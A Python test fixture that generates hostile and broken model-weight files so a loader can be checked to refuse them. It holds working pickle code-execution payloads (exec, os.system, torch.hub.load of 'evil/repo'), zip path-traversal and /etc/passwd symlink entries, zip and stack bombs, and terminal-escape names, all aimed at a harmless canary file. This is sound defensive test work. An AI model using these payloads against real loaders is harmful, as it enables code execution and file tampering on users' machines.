"""Hostile and broken weight files, made when a test runs. Each would harm a reader that trusts it; none is stored.

`make_all(folder, canary)` writes them; whatever executes code out of one of them creates the file `canary`.
"""

from __future__ import annotations

import collections
import io
import json
import os
import pickle
import stat
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

sys.path.append(str(Path(__file__).resolve().parent.parent))

from published import Persistent, _nvidia_modules, nvidia_pickle, rosinality_file

from models.stylegan2 import Generator

OLD_MAGIC = 0x1950A86A20F9469CFC6C
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


class Canary:
    """Pickles as a call of `function` with `arguments`; unpickling it the usual way makes the call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def touch(canary: Path) -> Canary:
    """exec("open(canary, 'w').close()")."""
    return Canary(exec, f"open({str(canary)!r}, 'w').close()")


def small() -> Generator:
    torch.manual_seed(1)
    return Generator(8, 8, 8, channel_base=64, channel_max=8, mapping_layers=2)


# Pickle programs by hand: `p(...)` joins opcodes


def p(*parts: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + b"".join(parts) + b"."


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if -(2**31) <= value < 2**31 else b"\x8a\x08" + struct.pack("<q", value)


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def sizes(*values: int) -> bytes:
    return b"(" + b"".join(number(value) for value in values) + b"t"


def storage(numel: int, key: str = "0", kind: str = "FloatStorage") -> bytes:
    pid = b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(numel) + b"t"
    return pid + b"Q"


def tensor(numel: int, offset: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    call = name("torch._utils", "_rebuild_tensor_v2") + b"(" + storage(numel) + number(offset)
    return call + sizes(*shape) + sizes(*stride) + b"\x89" + name("collections", "OrderedDict") + b")RtR"


def entry(value: bytes, key: str = "input.input") -> bytes:
    """{key: value}, as a whole pickle."""
    return p(b"}" + text(key) + value + b"s")


# Containers


def torch_zip(path: Path, program: bytes, data: dict[str, bytes] | None = None, **more: bytes) -> Path:
    parts = {
        "data.pkl": program,
        "version": b"3\n",
        **{f"data/{key}": raw for key, raw in (data or {}).items()},
        **more,
    }
    with zipfile.ZipFile(path, "w") as file:
        for part, raw in parts.items():
            file.writestr(f"archive/{part}", raw)
    return path


def torch_old(path: Path, program: bytes, keys: list[str] | None = None, raw: bytes = b"") -> Path:
    head = b"".join(pickle.dumps(each, 2) for each in (OLD_MAGIC, 1001, SYSTEM))
    path.write_bytes(head + program + pickle.dumps(keys or [], 2) + raw)
    return path


def written(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def safetensors(path: Path, header: Any, data: bytes = b"", length: int | None = None) -> Path:
    raw = json.dumps(header).encode() if not isinstance(header, bytes) else header
    return written(path, struct.pack("<Q", len(raw) if length is None else length) + raw + data)


# The attacks, one function a group; each gives {name: (path, what the sentence must say)}

Files = dict[str, tuple[Path, str]]


def reduces(folder: Path, canary: Path) -> Files:
    """Calls of Python functions, in every container."""
    evil = pickle.dumps({"g_ema": touch(canary)}, 2)
    command = pickle.dumps(Canary(os.system, f"touch {canary}"), 3)
    getter = pickle.dumps(Canary(getattr, Canary(__import__, "os"), "system"), 3)
    files = {
        "pickle": (written(folder / "pickle.pkl", pickle.dumps({"G_ema": touch(canary)}, 4)), "exec"),
        "command": (written(folder / "command.pkl", command), "system"),
        "getattr": (written(folder / "getattr.pkl", getter), "getattr"),
        "stacked": (written(folder / "stacked.pkl", pickle.dumps({"G_ema": touch(canary)}, 5)), "exec"),
        "zip": (torch_zip(folder / "zip.pt", evil), "exec"),
        "old": (torch_old(folder / "old.pth", evil), "exec"),
    }
    torch.save({"g_ema": touch(canary)}, folder / "torch.pt")
    head = b"".join(pickle.dumps(each, 2) for each in (Canary(exec, f"open({str(canary)!r},'w')"), 1001, SYSTEM))
    files["magic"] = (written(folder / "magic.pt", head), "exec")
    return files | {"torch": (folder / "torch.pt", "exec")}


def nested(folder: Path, canary: Path) -> Files:
    """Files within the file: torch.storage._load_from_bytes unpickles what it is given without any check."""
    inner = io.BytesIO()
    torch.save(touch(canary), inner, _use_new_zipfile_serialization=False)
    payload = inner.getvalue()
    load = torch.storage._load_from_bytes
    with _nvidia_modules():
        outer = pickle.dumps({"G_ema": Persistent("Generator", {"_buffers": {"x": Canary(load, payload)}}, "")}, 3)
        raw = pickle.dumps({"G_ema": Canary(load, pickle.dumps(touch(canary)))}, 3)
    zipped = io.BytesIO()
    torch.save(touch(canary), zipped)
    as_zip = pickle.dumps({"G_ema": Canary(load, zipped.getvalue())}, 3)
    return {
        "nested": (written(folder / "nested.pkl", outer), "exec"),
        "nested-raw": (written(folder / "nested-raw.pkl", raw), "no tensor data"),
        "nested-zip": (written(folder / "nested-zip.pkl", as_zip), "no tensor data"),
        "nested-pt": (torch_zip(folder / "nested.pt", pickle.dumps(Canary(load, payload), 2)), "_load_from_bytes"),
    }


def allowed_names(folder: Path, canary: Path) -> Files:
    """Globals that a reader of weights may know, used for something else."""

    def call(module: str, attribute: str, arguments: bytes) -> bytes:
        return entry(name(module, attribute) + arguments + b"R")

    state = b"}" + text("items") + number(5) + b"s"
    one = {"0": struct.pack("<f", 1.0)}
    made = {
        "bytearray": (call("builtins", "bytearray", sizes(2**40)), "bytearray"),
        "hub": (call("torch.hub", "load", b"(" + text("evil/repo") + text("evil") + b"t"), "torch.hub.load"),
        "wrapper": (call("torch._utils", "_rebuild_wrapper_subclass", b")"), "_rebuild_wrapper_subclass"),
        "from-type": (call("torch._tensor", "_rebuild_from_type_v2", b")"), "_rebuild_from_type_v2"),
        "shadow": (p(name("collections", "OrderedDict") + b")R" + state + b"b"), "sets attributes"),
        "class": (entry(name("argparse", "Namespace") + b")\x81" + number(7) + b"b"), "state"),
        "call-result": (entry(name("collections", "OrderedDict") + b")R)R"), "calls"),
        "call-text": (entry(text("os.system") + b")R"), "calls"),
        "pairs": (call("collections", "OrderedDict", b"(](" + text("a") + number(1) + b"tat"), "dictionary"),
        "hooks": (
            entry(
                name("torch._utils", "_rebuild_tensor_v2")
                + b"("
                + storage(1)
                + number(0)
                + sizes(1)
                + sizes(1)
                + b"\x89"
                b"}" + text("a") + number(1) + b"stR"
            ),
            "hooks",
        ),
        "few-arguments": (
            entry(
                name("torch._utils", "_rebuild_tensor_v2") + b"(" + storage(1) + number(0) + sizes(1) + sizes(1) + b"tR"
            ),
            "no whole pickle",
        ),
        "pid": (entry(text("elsewhere") + b"Q"), "persistent"),
        "pid-type": (entry(b"(" + text("module") + number(1) + b"tQ"), "persistent"),
    }
    return {key: (torch_zip(folder / f"{key}.pt", program, one), says) for key, (program, says) in made.items()}


def machine(folder: Path, canary: Path) -> Files:
    """What harms the stack machine of a pickle itself: memory, time, the depth of the stack."""
    deep = b"]" * 1_000_000 + b"a" * 999_999
    doubling = b")" + b"2" * 0 + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    nest = b")" + b"\x85" * 500_000
    made = {
        "long": (p(b"\x8b" + struct.pack("<I", 2**31 - 1) + b"\xff" * 20), "cut short"),
        "long-real": (p(b"\x8b" + struct.pack("<I", 3_000_000) + b"\x7f" * 3_000_000), "absurd"),
        "memo": (p(b"Nr" + struct.pack("<I", 2**32 - 1) + b"0j" + struct.pack("<I", 77)), "before it is there"),
        "bytes": (p(b"\x8e" + struct.pack("<Q", 2**60) + b"abc", proto=4), "cut short"),
        "bytes-max": (p(b"\x8e" + b"\xff" * 8 + b"abc", proto=4), "whole pickle"),
        "text": (p(b"\x8d" + struct.pack("<Q", 2**62) + b"abc", proto=4), "cut short"),
        "array": (p(b"\x96" + struct.pack("<Q", 8) + b"a" * 8, proto=5), "BYTEARRAY8"),
        "out-of-band": (p(b"\x97", proto=5), "NEXT_BUFFER"),
        "extension": (p(b"\x82\x01"), "EXT1"),
        "extension2": (p(b"\x83\x01\x00"), "EXT2"),
        "extension4": (p(b"\x84\x01\x00\x00\x00"), "EXT4"),
        "persid": (p(b"Pevil\n"), "PERSID"),
        "binpersid": (p(number(1) + b"Q"), "persistent"),
        "inst": (p(b"(ios\nsystem\n"), "INST"),
        "obj": (p(b"(" + name("collections", "OrderedDict") + b"o"), "OBJ"),
        "newobj-ex": (p(name("collections", "OrderedDict") + b")}\x92", proto=4), "NEWOBJ_EX"),
        "dup": (p(b"N2"), "DUP"),
        "key-bomb": (p(b"}" + doubling + number(1) + b"s"), "key of type tuple"),
        "key-deep": (p(b"}" + nest + number(1) + b"s"), "key of type tuple"),
        "deep": (p(deep), "no generator"),
        "name-type": (p(number(1) + number(2) + b"\x93", proto=4), "no text"),
        "underflow": (p(b"aaaa"), "not there"),
        "mark": (p(b"t"), "not opened"),
        "above-mark": (p(b"N(\x86"), "not there"),
        "odd": (p(b"}(" + text("a") + b"u"), "without a value"),
        "set-item": (p(b"]" + text("a") + number(1) + b"s"), "no dictionary"),
        "append": (p(b"}" + number(1) + b"a"), "no list"),
        "endless-line": (p(b"c" + b"a" * 100_000), "cut off or too long"),
        "no-end": (b"\x80\x02}q\x00", "cut short"),
        "opcode": (p(b"\xfe"), "no whole pickle"),
        "decimal": (p(b"L" + b"9" * 4000 + b"L\n"), "absurd"),
    }
    return {key: (written(folder / f"m-{key}.pkl", program), says) for key, (program, says) in made.items()}


def tensors(folder: Path, canary: Path) -> Files:
    """Tensors that reach beyond their numbers, or are far more than the file."""
    four = {"0": struct.pack("<4f", 1, 2, 3, 4)}
    big = 2**31 - 1
    made = {
        "stride": (tensor(4, 0, (4,), (1000,)), "reaches beyond"),
        "offset": (tensor(4, 1, (4,), (1,)), "reaches beyond"),
        "negative-offset": (tensor(4, -1, (4,), (1,)), "impossible shape"),
        "negative-stride": (tensor(4, 3, (4,), (-1,)), "impossible shape"),
        "negative-size": (tensor(4, 0, (-4,), (1,)), "impossible shape"),
        "huge": (tensor(4, 0, (2**62, 4), (4, 1)), "impossible shape"),
        "overflow": (tensor(4, 0, (2**40, 2**40), (2**30, 1)), "reaches beyond"),
        "repeated": (tensor(4, 0, (big, big), (0, 0)), "more than"),
        "ranks": (tensor(4, 0, (1,) * 100, (1,) * 100), "impossible shape"),
        "uneven": (tensor(4, 0, (2, 2), (1,)), "impossible shape"),
        "lie": (tensor(2**40, 0, (4,), (1,)), "instead of"),
        "lie-small": (tensor(3, 0, (3,), (1,)), "instead of"),
        "missing": (tensor(4, 0, (4,), (1,)).replace(text("0"), text("9")), "instead of"),
        "key": (tensor(4, 0, (4,), (1,)).replace(text("0"), text("../../x")), "instead of"),
    }
    files = {key: (torch_zip(folder / f"t-{key}.pt", entry(value), four), says) for key, (value, says) in made.items()}
    old = {
        "old-lie": (tensor(2**40, 0, (4,), (1,)), ["0"], struct.pack("<q4f", 2**40, 1, 2, 3, 4), "cut off"),
        "old-count": (tensor(4, 0, (4,), (1,)), ["0"], struct.pack("<q4f", 5, 1, 2, 3, 4), "cut off"),
        "old-keys": (tensor(4, 0, (4,), (1,)), ["0", "1"], struct.pack("<q4f", 4, 1, 2, 3, 4), "does not fit"),
        "old-more": (tensor(4, 0, (4,), (1,)), ["0"], struct.pack("<q4f", 4, 1, 2, 3, 4) + b"more", "behind its end"),
        "old-stride": (tensor(4, 0, (4,), (9,)), ["0"], struct.pack("<q4f", 4, 1, 2, 3, 4), "reaches beyond"),
    }
    for key, (value, keys, raw, says) in old.items():
        files[key] = (torch_old(folder / f"{key}.pth", p(b"}" + text("a") + value + b"s"), keys, raw), says)
    return files


def archives(folder: Path, canary: Path) -> Files:
    """Zip archives that are bombs, point elsewhere, hide something or are broken."""
    good = entry(number(1))
    files: Files = {}

    def pack(key: str, says: str, parts: list[tuple[zipfile.ZipInfo | str, bytes]], compress: bool = False) -> Path:
        path = folder / f"z-{key}.pt"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as file:
            for part, raw in parts:
                file.writestr(part, raw)
        files[key] = (path, says)
        return path

    pickle_part = ("archive/data.pkl", good)
    pack("bomb", "unpacks from", [pickle_part, ("archive/data/0", bytes(50_000_000))], compress=True)
    for key, part in (
        ("up", "archive/../../evil"),
        ("absolute", "/etc/evil"),
        ("drive", "C:\\evil"),
        ("dots", "../data.pkl"),
    ):
        pack(key, "no part of a weight file", [pickle_part, (part, b"x")])
    link = zipfile.ZipInfo("archive/data/0")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    pack("symlink", "symbolic link", [pickle_part, (link, b"/etc/passwd")])
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(touch(canary), 2))
    pack("archive-in-archive", "no part of a weight file", [pickle_part, ("archive/inner.zip", inner.getvalue())])
    pack("nothing", "no data.pkl", [("archive/version", b"3")])
    pack("two-folders", "no data.pkl", [pickle_part, ("other/version", b"3")])
    pack("two-pickles", "no data.pkl", [pickle_part, ("other/data.pkl", pickle.dumps(touch(canary), 2))])
    pack("script", "TorchScript", [pickle_part, ("archive/code/__torch__.py", b"x"), ("archive/constants.pkl", b"x")])
    pack("order", "byte order", [pickle_part, ("archive/byteorder", b"big")])
    path = pack("cut", "archive is broken", [pickle_part, ("archive/data/0", bytes(1000))])
    path.write_bytes(path.read_bytes()[:-700])
    path = pack("prefix", "overlaps", [pickle_part])
    path.write_bytes(b"PK\x03\x04" + b"\0" * 60 + path.read_bytes())
    path = pack("twice", "same name", [pickle_part, ("archive/data.pkX", pickle.dumps(touch(canary), 2))])
    path.write_bytes(path.read_bytes().replace(b"data.pkX", b"data.pkl"))
    path = pack("overlap", "overlaps", [pickle_part, ("archive/data/0", bytes(64)), ("archive/data/1", bytes(64))])
    _point(path, b"archive/data/1", b"archive/data/0")
    path = pack("size", "", [pickle_part, ("archive/data/0", bytes(64))])
    raw = bytearray(path.read_bytes())
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 20 : at + 28] = struct.pack("<II", 2**31, 2**31)
    path.write_bytes(bytes(raw))
    path = pack("encrypted", "", [pickle_part])
    raw = bytearray(path.read_bytes())
    raw[raw.rindex(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(raw))
    path = pack("checksum", "archive is broken", [("archive/data.pkl", good), ("archive/version", b"3")])
    path.write_bytes(path.read_bytes().replace(good, entry(number(2)), 1))
    return files


def _point(path: Path, one: bytes, other: bytes) -> None:
    """Let the directory's record of `one` point where `other` lies."""
    raw = bytearray(path.read_bytes())
    records = {part: raw.rindex(part) - 46 for part in (one, other)}
    assert all(raw[at : at + 4] == b"PK\x01\x02" for at in records.values())
    raw[records[one] + 42 : records[one] + 46] = raw[records[other] + 42 : records[other] + 46]
    path.write_bytes(bytes(raw))


def headers(folder: Path, canary: Path) -> Files:
    """Files that say they are safetensors, or ours."""
    one = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    ours: Callable[[Any], dict[str, Any]] = lambda config: {  # noqa: E731
        "__metadata__": {"format": "everyage-stylegan2", "config": json.dumps(config)},
        **one,
    }
    files = {
        "length": safetensors(folder / "length.safetensors", one, length=2**63),
        "length-small": safetensors(folder / "length-small.safetensors", one, b"\0" * 4, length=3),
        "offsets": safetensors(folder / "offsets.safetensors", {**one, "b": one["a"]}, b"\0" * 4),
        "cut": safetensors(folder / "st-cut.safetensors", one, b"\0"),
        "deep": safetensors(folder / "st-deep.safetensors", b"{" + b'"a":[' * 100_000),
        "list": safetensors(folder / "list.safetensors", b"{[]}"),
        "layers": safetensors(folder / "layers.safetensors", ours({"mapping_layers": 10**9}), b"\0" * 4),
        "width": safetensors(folder / "width.safetensors", ours({"resolution": 2**40}), b"\0" * 4),
        "infinite": safetensors(folder / "infinite.safetensors", ours({"conv_clamp": float("inf")}), b"\0" * 4),
        "nested-config": safetensors(folder / "nest.safetensors", ours({"a": {"b": {"c": 1}}}), b"\0" * 4),
        "kind": safetensors(
            folder / "kind.safetensors", {"__metadata__": {"format": "everyage-\x1b[2Jevil"}, **one}, b"\0" * 4
        ),
    }
    return {f"safetensors-{key}": (path, "") for key, path in files.items()}


def others(folder: Path, canary: Path) -> Files:
    """Other formats, broken copies of good files, names that speak to the terminal."""
    good = rosinality_file(folder / "good-source.pt", small()).read_bytes()
    nvidia = nvidia_pickle(folder / "good-source.pkl", small(), source=f"open({str(canary)!r}, 'w')").read_bytes()
    (folder / "good-source.pt").unlink()
    (folder / "good-source.pkl").unlink()
    (folder / "folder.pt").mkdir()
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.pt")
    tensorflow = p(name("dnnlib.tflib.network", "Network") + b")\x81", proto=3)
    terminal = collections.OrderedDict({"\x1b[2J\x1b]0;evil\x07\n" + "a" * 500: torch.zeros(1)})
    torch.save(terminal, folder / "terminal.pt")
    torch.save([torch.zeros(1)], folder / "list.pt")
    files: Files = {
        "empty": (written(folder / "empty.pt", b""), "empty"),
        "prose": (
            written(folder / "prose.pt", b"<html>Too many downloads</html>"),
            "neither safetensors",
        ),
        "gzip": (written(folder / "gzip.pt", b"\x1f\x8b" + bytes(100)), "neither safetensors"),
        "tar": (written(folder / "tar.pt", bytes(257) + b"ustar"), "neither safetensors"),
        "tensorflow": (written(folder / "tensorflow.pkl", tensorflow), "legacy.py"),
        "half": (written(folder / "half.pt", good[: len(good) // 2]), "archive is broken"),
        "half-pickle": (written(folder / "half.pkl", nvidia[: len(nvidia) // 2]), "cut short"),
        "terminal": (folder / "terminal.pt", "1 entries"),
        "list": (folder / "list.pt", "type list"),
        "folder": (folder / "folder.pt", "no file"),
        "absent": (folder / "absent.pt", "no file"),
    }
    if hasattr(os, "mkfifo"):
        files["pipe"] = (folder / "pipe.pt", "no file")
    return files


GROUPS = (reduces, nested, allowed_names, machine, tensors, archives, headers, others)


def make_all(folder: Path, canary: Path) -> Files:
    """Every attack by name: its file, and a piece of the sentence that refuses it."""
    files: Files = {}
    for group in GROUPS:
        part = folder / group.__name__
        part.mkdir()
        files |= {f"{group.__name__}/{key}": value for key, value in group(part, canary).items()}
    return files
